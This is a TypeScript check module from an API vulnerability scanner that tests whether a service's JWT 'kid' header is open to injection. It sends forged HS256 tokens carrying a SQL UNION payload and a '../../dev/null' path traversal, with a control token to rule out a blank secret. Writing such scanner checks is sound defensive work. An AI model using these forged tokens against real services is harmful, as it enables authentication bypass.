/**
 * jwt.kid_injection — the `kid` header (RFC 7515 §4.1.4) reaches a key lookup unsanitized: SQL injection makes the
 * lookup return a key we chose, path traversal makes it read /dev/null (an empty key).
 *
 * Requests: 1) HS256 token, `kid` = `x' UNION SELECT '<random key>' -- `, signed with that random key;
 * 2) HS256 token, `kid` = `../../../../../../../../dev/null`, signed with ""; 3) only if 2 was accepted, a control
 * token signed with "" but the original kid. Verdict: failed (detail sql_injection / path_traversal) when 1 is
 * accepted, or 2 is accepted and the control is rejected.
 * Fixes VulnAPI (docs/architecture.md §R.15 #5): the SQL payload needs no table name (VulnAPI assumed `tokens`) and its key is
 * random, so a server whose secret is literally "secret" is not a false positive; a blank-secret server is told
 * apart by the control (that is jwt.blank_secret's finding); skipped on public endpoints (§1.4).
 */
import { randomBytes } from 'node:crypto';
import { defineCheck, type ProbeResponse } from '../scanner/api.js';
import { freshPayloadSegment, hmacToken } from './support/jwt/sign.js';
import { attackAccepted, requireProtectedEndpoint } from './support/auth-baseline-facts.js';
import { carriesJwt, operationJwt } from './support/jwt-credential.js';
import { tokenVerifier } from './support/token-verifier.js';

const ISSUE = 'broken_authentication.kid_injection';
const TRAVERSAL_KID = '../../../../../../../../dev/null';

export default defineCheck({
  id: 'jwt.kid_injection',
  name: 'JWT KID Injection',
  issues: [
    {
      id: ISSUE,
      name: 'JWT KID Header Injection',
      url: 'https://www.cerberauth.com/docs/vulnapi/vulnerabilities/broken-authentication/jwt-kid-injection?utm_source=vulnapi-report',
      cvss: { version: 4.0, vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.3 },
      classifications: {
        owasp: 'API2:2023 Broken Authentication',
        cwe: 'CWE-345: Insufficient Verification of Data Authenticity',
      },
    },
  ],
  dependsOn: ['auth.baseline'],
  sharedVerdict: tokenVerifier,
  appliesTo: carriesJwt,
  async run(ctx) {
    const jwt = operationJwt(ctx);
    const facts = requireProtectedEndpoint(ctx);
    const payload = freshPayloadSegment(jwt);
    const report = (type: string, response: ProbeResponse): void =>
      ctx.report(ISSUE, {
        detail: `${type}: a token with an injected kid is accepted (${response.status})`,
        attempt: response,
      });

    const key = `gatehouse-${randomBytes(12).toString('hex')}`;
    const sqlKid = `x' UNION SELECT '${key}' -- `;
    const sql = await ctx.http.send({
      credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: sqlKid }, payload, key),
    });
    if (attackAccepted(sql, facts)) return report('sql_injection', sql);

    const traversal = await ctx.http.send({
      credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: TRAVERSAL_KID }, payload, ''),
    });
    if (!attackAccepted(traversal, facts)) return;
    const control = await ctx.http.send({ credential: hmacToken({ ...jwt.header, alg: 'HS256' }, payload, '') });
    if (!attackAccepted(control, facts)) report('path_traversal', traversal);
    else ctx.log.debug('an empty-key token is accepted whatever its kid: that is a blank secret, not kid injection');
  },
});
